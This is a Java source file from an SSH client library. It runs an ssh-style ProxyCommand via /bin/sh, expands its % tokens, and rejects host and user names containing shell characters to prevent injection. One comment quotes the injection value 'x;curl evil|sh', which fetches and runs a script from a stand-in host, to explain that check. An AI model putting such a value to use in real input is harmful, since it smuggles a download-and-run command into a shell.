// SPDX-License-Identifier: Apache-2.0
package org.amiko.client;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.util.List;
import java.util.function.Function;
import java.util.function.Supplier;
import org.amiko.Transport;
import org.amiko.core.AlgorithmCatalog;
import org.amiko.core.Amiko;
import org.amiko.core.TransportSettings;

/**
 * SSH over a program's standard input and output, as ssh's {@code ProxyCommand} (ssh_config(5)):
 * the program connects to the server however it likes ({@code ssh -W %h:%p bastion}, an HTTP
 * CONNECT proxy, a serial line) and the SSH connection runs through it, end to end. Its standard
 * error goes where this process's goes, as ssh lets it; the program is stopped when the
 * connection ends.
 *
 * @since 1.2
 */
public final class ProxyCommand {
    private static final int CHUNK = 32 * 1024;

    private ProxyCommand() {}

    /**
     * Runs {@code command} as ssh runs a {@code ProxyCommand}, with {@code /bin/sh -c}, after
     * replacing {@code %h} (and {@code %n}) with {@code host}, {@code %p} with {@code port} and
     * {@code %%} with {@code %}; returns a transport over it, not yet started (call {@link Transport#startClient}
     * next). Host key verification sees the peer as {@code host:port}.
     */
    public static Transport connect(String command, String host, int port) throws IOException {
        return connect(command, host, port, null, host);
    }

    /**
     * As {@link #connect(String, String, int)}, with the other tokens ssh_config(5) gives a
     * {@code ProxyCommand}: {@code %r}, the user to log in as, and {@code %n}, the name the host
     * was asked for before its {@code HostName} replaced it.
     *
     * @param user the user for {@code %r}, or null for none (a command that uses it is then refused)
     * @since 1.2
     */
    public static Transport connect(String command, String host, int port, String user, String originalName)
            throws IOException {
        return connect(command, host, port, user, originalName, TransportSettings.defaults());
    }

    /** As {@link #connect(String, String, int, String, String)} with a host's own settings. */
    static Transport connect(String command, String host, int port, String user, String originalName,
            TransportSettings settings) throws IOException {
        return connect(List.of("/bin/sh", "-c", "exec " + expand(command, host, port, user, originalName)), host,
                port, settings, Amiko::defaultCatalog);
    }

    /** As {@link #connect(String, String, int)} with the program's arguments as given, no shell and no expansion. */
    public static Transport connect(List<String> command, String host, int port, TransportSettings settings,
            Supplier<AlgorithmCatalog> catalog) throws IOException {
        Process process = new ProcessBuilder(command).redirectError(ProcessBuilder.Redirect.INHERIT).start();
        return SocketPair.tunnel(host, port, settings, catalog, process::destroy, far -> {
            SocketPair.startDaemon("amiko-proxy-out", () -> toProgram(far, process));
            SocketPair.startDaemon("amiko-proxy-in", () -> fromProgram(process, far));
        });
    }

    /**
     * ssh's expansion of the tokens a {@code ProxyCommand} may hold ({@code %h %p %r %n %%}). The
     * names go into a shell command, so, as ssh since 9.6 (readconf.c's {@code ssh_valid_hostname}
     * and its user name check), one that starts with {@code -} or holds a shell character, a space
     * or a control character is refused where the command uses it: {@code x;curl evil|sh} would
     * otherwise be run. A name the command does not use is not looked at.
     *
     * @param user the user for {@code %r}, or null when not known (then {@code %r} is refused)
     * @param originalName the name asked for, for {@code %n}
     */
    static String expand(String command, String host, int port, String user, String originalName) {
        Function<Character, String> tokens = token -> switch (token) {
            case 'h' -> shellSafe(host, "host name", "a ProxyCommand");
            case 'p' -> Integer.toString(port);
            case 'n' -> shellSafe(originalName, "host name asked for", "a ProxyCommand");
            case 'r' -> user == null ? null : shellSafe(user, "user name", "a ProxyCommand");
            default -> null;
        };
        try {
            return PercentTokens.expand(command, tokens, true);
        } catch (PercentTokens.UnknownToken e) {
            throw new IllegalArgumentException("ProxyCommand " + e.getMessage() + "; %h, %p, %n"
                    + (user != null ? ", %r" : "") + " and %% are", e);
        }
    }

    /**
     * {@code name} where it may go into a shell command, as ssh's {@code ssh_valid_hostname}
     * and user name check judge it.
     *
     * @param into the command, for the error
     * @throws IllegalArgumentException for a name that is empty, starts with {@code -} or holds a
     *     shell character, a space or a control character
     */
    static String shellSafe(String name, String what, String into) {
        if (!isShellSafe(name)) {
            throw new IllegalArgumentException("the " + what + " is empty, starts with '-' or has characters a shell "
                    + "would act on; it is not substituted into " + into);
        }
        return name;
    }

    private static boolean isShellSafe(String host) {
        if (host.isEmpty() || host.startsWith("-")) {
            return false;
        }
        for (int i = 0; i < host.length(); i++) {
            char c = host.charAt(i);
            if (c <= ' ' || c == 0x7f || "'`\"$\\;&<>|(){},".indexOf(c) >= 0) {
                return false;
            }
        }
        return true;
    }

    /** What the engine sends goes to the program; once the engine closes, the program's input ends. */
    private static void toProgram(SocketChannel far, Process process) {
        ByteBuffer buffer = ByteBuffer.allocate(CHUNK);
        try (OutputStream in = process.getOutputStream()) {
            while (far.read(buffer) >= 0) {
                in.write(buffer.array(), 0, buffer.position());
                in.flush();
                buffer.clear();
            }
        } catch (IOException e) {
            // the program or the engine went away: both end below
        } finally {
            close(far);
            process.destroy();
        }
    }

    /** What the program writes goes to the engine; its end of output ends the connection. */
    private static void fromProgram(Process process, SocketChannel far) {
        byte[] buffer = new byte[CHUNK];
        ByteBuffer chunk = ByteBuffer.wrap(buffer);
        try (InputStream out = process.getInputStream()) {
            int count;
            while ((count = out.read(buffer)) >= 0) {
                chunk.clear().limit(count);
                while (chunk.hasRemaining()) {
                    far.write(chunk);
                }
            }
        } catch (IOException e) {
            // as above
        } finally {
            close(far);
            process.destroy();
        }
    }

    private static void close(SocketChannel channel) {
        try {
            channel.close();
        } catch (IOException e) {
            // closing anyway
        }
    }
}
